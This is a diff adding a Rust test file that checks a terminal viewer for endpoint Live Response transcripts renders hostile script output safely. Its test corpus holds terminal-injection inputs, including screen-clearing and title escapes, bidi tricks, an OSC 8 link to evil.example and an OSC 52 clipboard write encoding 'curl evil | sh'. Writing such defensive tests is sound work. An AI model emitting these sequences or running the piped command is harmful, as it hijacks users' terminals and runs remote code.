@@ -1,0 +1,217 @@
+//! A hostile-payload corpus rendered through the real viewer on TestBackend: nothing a
+//! compromised endpoint returns may put a control byte on the analyst's screen, everything
+//! is shown as a visible placeholder, and the raw bytes saved are exactly what came in.
+//! Plus property tests (a fuzz run inside the suite) for the decoder and the sanitiser.
+
+use std::sync::Arc;
+
+use chrono::Utc;
+use lrx::api::models::{
+    ActionStatus, Command, CommandDetail, CommandStatus, CommandType, MachineAction, Param,
+};
+use lrx::fetch::{FetchEvent, Fetched, ResultKey, ResultState};
+use lrx::transcript::document::Document;
+use lrx::transcript::{decode, sanitize};
+use lrx::tui::app::{App, Message, Settings};
+use lrx::tui::theme::{Theme, Variant};
+use lrx::tui::view;
+use proptest::prelude::*;
+use ratatui::Terminal;
+use ratatui::backend::TestBackend;
+use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
+
+fn transcript(output: &str) -> Vec<u8> {
+    serde_json::json!({"script_name": "Get-Evil.ps1", "exit_code": 0, "script_output": output, "script_errors": ""}).to_string().into_bytes()
+}
+
+/// (name, payload bytes, text that must be on screen)
+fn corpus() -> Vec<(&'static str, Vec<u8>, Vec<&'static str>)> {
+    let two_mb_line = format!("{}END", "A".repeat(2 * 1024 * 1024));
+    vec![
+        ("clear screen", transcript("before\u{1b}[2Jafter"), vec!["before␛[2Jafter"]),
+        ("OSC 52 clipboard write", transcript("\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}x"), vec!["␛]52;c;Y3VybCBldmlsIHwgc2g=␇x"]),
+        ("OSC 8 link", transcript("\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\"), vec!["␛]8;;http://evil.example/␛\\click"]),
+        ("unterminated OSC", transcript("title \u{1b}]0;pwned and the rest of the line"), vec!["␛]0;pwned and the rest"]),
+        ("DCS", transcript("\u{1b}P1$r0m\u{1b}\\ dcs"), vec!["␛P1$r0m␛\\ dcs"]),
+        ("8-bit CSI", transcript("\u{9b}31mred"), vec!["<9B>31mred"]),
+        ("NUL BEL BS", transcript("a\u{0}b\u{7}c\u{8}d"), vec!["a␀b␇c␈d"]),
+        ("tab stops", transcript("a\tb\nabcdefgh\tc"), vec!["a       b", "abcdefgh        c"]),
+        ("CR and CRLF", transcript("one\r\ntwo\rthree"), vec!["one", "two␍three"]),
+        ("bidi RLO", transcript("invoice\u{202e}fdp.exe"), vec!["invoice<U+202E>fdp.exe"]),
+        ("ZWJ", transcript("a\u{200d}b"), vec!["a<U+200D>b"]),
+        ("combining flood", transcript(&format!("Z{}", "\u{301}".repeat(10_000))), vec!["<+9996 marks>"]),
+        ("invalid UTF-8", b"{\"script_name\":\"x\",\"exit_code\":0,\"script_output\":\"bad \xff\xfe bytes\",\"script_errors\":\"\"}".to_vec(), vec!["bad \u{fffd}\u{fffd} bytes", "invalid UTF-8"]),
+        ("2 MB single line", transcript(&two_mb_line), vec!["AAAAAAAA"]),
+        ("malformed JSON", b"{\"script_name\":\"x\",\"exit_code\":0,\"script_output\":\"cut off \x1b[2J".to_vec(), vec!["not valid JSON", "cut off ␛[2J"]),
+        ("exit code as string", br#"{"script_name":"x","exit_code":"5","script_output":"five","script_errors":""}"#.to_vec(), vec!["exit 5", "five"]),
+        ("exit code null", br#"{"script_name":"x","exit_code":null,"script_output":"none","script_errors":""}"#.to_vec(), vec!["exit ?", "none"]),
+    ]
+}
+
+fn action() -> MachineAction {
+    let now = Utc::now();
+    MachineAction {
+        id: "c141bb71-8125-4234-a184-5d1e4f0c2a77".into(),
+        action_type: "LiveResponse".into(),
+        title: None,
+        // The service's own text is untrusted too.
+        requestor: "evil\u{1b}]0;owned\u{7}@contoso.com".into(),
+        requestor_comment: "comment \u{1b}[5m blink".into(),
+        status: ActionStatus::Succeeded,
+        machine_id: "a".repeat(40),
+        computer_dns_name: "host\u{1b}[2J.corp".into(),
+        creation_date_time_utc: Some(now),
+        last_update_date_time_utc: Some(now),
+        cancellation_requestor: None,
+        cancellation_comment: None,
+        cancellation_date_time_utc: None,
+        commands: vec![Command {
+            index: 0,
+            start_time: Some(now),
+            end_time: Some(now),
+            command_status: CommandStatus::Completed,
+            errors: vec!["error \u{1b}[31m red".into()],
+            command: CommandDetail {
+                command_type: CommandType::RunScript,
+                params: vec![Param {
+                    key: "ScriptName".into(),
+                    value: "Get-\u{202e}Evil.ps1".into(),
+                }],
+            },
+        }],
+    }
+}
+
+fn screen(terminal: &Terminal<TestBackend>) -> String {
+    let buffer = terminal.backend().buffer();
+    let mut text = String::new();
+    for y in 0..buffer.area.height {
+        for x in 0..buffer.area.width {
+            let symbol = buffer[(x, y)].symbol();
+            assert!(
+                !symbol.chars().any(char::is_control),
+                "control character {symbol:?} in a cell"
+            );
+            assert!(
+                !symbol
+                    .chars()
+                    .any(|c| sanitize::placeholder(c).is_some() && !c.is_control()),
+                "invisible character {symbol:?} in a cell"
+            );
+            text.push_str(symbol);
+        }
+        text.push('\n');
+    }
+    text
+}
+
+#[test]
+fn the_corpus_renders_inert_and_visible_and_saves_byte_exact() {
+    let dir = tempfile::tempdir().expect("tmp");
+    for (name, payload, expected) in corpus() {
+        let mut app = App::new(
+            "t".into(),
+            "c".into(),
+            Settings {
+                prefetch: false,
+                ..Settings::default()
+            },
+            Utc::now(),
+        );
+        let _ = app.update(Message::ActionsLoaded {
+            result: Ok(vec![action()]),
+            append: false,
+        });
+        for code in [KeyCode::Enter, KeyCode::Enter] {
+            let _ = app.update(Message::Key(KeyEvent::new(code, KeyModifiers::NONE)));
+        }
+        let key = ResultKey::new(action().id, 0);
+        let path = dir
+            .path()
+            .join(format!("{}.payload", sanitize::file_name(name)));
+        std::fs::write(&path, &payload).expect("write");
+        let fetched = Fetched {
+            path: path.clone(),
+            size: payload.len() as u64,
+            sha256: "0".repeat(64),
+            from_cache: false,
+            link_expires_at: None,
+            file_name: None,
+        };
+        let _ = app.update(Message::Fetch(FetchEvent::State(
+            key.clone(),
+            ResultState::Ready(Arc::new(fetched)),
+        )));
+        let _ = app.update(Message::Decoded(
+            key,
+            Arc::new(Document::from_script(&payload, "0".repeat(64), false)),
+            None,
+        ));
+        let theme = Theme {
+            colored: true,
+            variant: Variant::Dark,
+        };
+        for wrap in [false, true] {
+            app.transcript.wrap = wrap;
+            let mut terminal = Terminal::new(TestBackend::new(120, 40)).expect("terminal");
+            terminal
+                .draw(|frame| view::render(frame, &mut app, &theme))
+                .expect("draw");
+            let text = screen(&terminal);
+            for needle in &expected {
+                assert!(
+                    text.contains(needle),
+                    "{name} (wrap {wrap}): screen lacks {needle:?}\n{text}"
+                );
+            }
+            assert!(text.contains("host␛[2J"), "machine names are sanitised too");
+        }
+        // `s` saves the payload byte for byte.
+        let target = dir
+            .path()
+            .join(format!("{}.saved", sanitize::file_name(name)));
+        let notice =
+            lrx::tui::transcript_actions::save(&path, &target, lrx::tui::app::SaveKind::Payload);
+        assert!(notice.starts_with("saved"), "{notice}");
+        assert_eq!(
+            std::fs::read(&target).expect("saved"),
+            payload,
+            "{name}: saved bytes differ"
+        );
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+    #[test]
+    fn sanitised_text_never_carries_a_control_character(text in any::<String>()) {
+        let line = sanitize::line(&text);
+        prop_assert!(!line.chars().any(|c| c.is_control() || (sanitize::placeholder(c).is_some())));
+        let (document, _) = sanitize::document(&text);
+        prop_assert!(!document.chars().any(|c| (c.is_control() && c != '\n') || (sanitize::placeholder(c).is_some() && c != '\n')));
+    }
+
+    #[test]
+    fn the_decoder_keeps_every_byte_it_cannot_parse(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
+        let result = decode::script_result(&bytes);
+        // Whatever it was, nothing is lost: either it parsed, or it is shown as text.
+        if result.problems.iter().any(|p| p.contains("not valid JSON") || p.contains("instead of a JSON object")) {
+            prop_assert_eq!(result.script_output, String::from_utf8_lossy(&bytes).into_owned());
+        }
+        let document = Document::from_script(&bytes, String::new(), false);
+        for line in document.section(lrx::transcript::document::Section::Output) {
+            prop_assert!(!line.text.chars().any(char::is_control));
+        }
+    }
+
+    #[test]
+    fn transcripts_with_arbitrary_text_round_trip(output in any::<String>(), errors in any::<String>(), code in any::<i64>()) {
+        let payload = serde_json::json!({"script_name": "x", "exit_code": code, "script_output": output, "script_errors": errors}).to_string();
+        let result = decode::script_result(payload.as_bytes());
+        prop_assert_eq!(result.exit_code, decode::ExitCode::Code(code));
+        prop_assert_eq!(result.script_output, output);
+        prop_assert_eq!(result.script_errors, errors);
+        prop_assert!(result.problems.is_empty());
+    }
+}
